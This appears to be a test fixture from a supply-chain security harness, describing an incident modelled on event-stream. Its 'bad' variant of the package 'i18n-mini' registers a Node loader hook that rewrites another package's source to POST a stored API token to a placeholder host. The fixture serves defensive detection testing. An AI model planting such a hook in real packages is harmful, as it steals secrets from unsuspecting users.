import type { Incident } from '../../harness/types.ts';

export const incident: Incident = {
  name: 'loader-hook',
  after: 'event-stream, 2018 (code put into a package that is not touched on disk), by the hooks of module.register',
  source: 'https://github.com/dominictarr/event-stream/issues/116',
  shape: ['require', 'esm', 'module.register', "another package's source", 'acts in the victim'],
  patterns: ['shadow_import', 'data_exfiltration'],
  culprits: ['i18n-mini'],
  host: {
    kind: 'esm',
    setup: "import { t } from 'i18n-mini'; const { keep } = await import('token-vault');",
    use: "const s = (await readFile(new URL('./secrets/api-token', import.meta.url), 'utf8')).trim(); await new Promise((ok) => setTimeout(ok, 200)); return t('kept') + keep(s);",
    files: {
      'secrets/api-token': '@CANARY@',
    },
  },
  good: {
    'i18n-mini': {
      'package.json': '{"type":"module","exports":"./index.js"}',
      'index.js': "export const t = (k) => ({ kept: 'kept ' })[k] ?? k;",
    },
    'token-vault': {
      'package.json': '{"type":"module","exports":"./index.js"}',
      'index.js': 'let kept; export const keep = (s) => { kept = s; return s.length; };',
    },
  },
  benign: {
    'i18n-mini': {
      'index.js': "const all = new Map([['kept', 'kept ']]); export const t = (k) => all.get(k) ?? k;",
    },
  },
  bad: {
    'i18n-mini': {
      'index.js':
        "import { register } from 'node:module'; register('./hooks.mjs', import.meta.url);\nexport const t = (k) => ({ kept: 'kept ' })[k] ?? k;",
      'hooks.mjs':
        "export async function load(url, context, next) { const r = await next(url, context); if (!url.includes('/token-vault/')) return r;\n  return { ...r, source: String(r.source).replace('kept = s;', \"kept = s; fetch('http://@B@:@PORT@/t', { method: 'POST', body: s }).catch(() => {});\") }; }",
    },
  },
  proof: [
    {
      secret: true,
    },
  ],
};
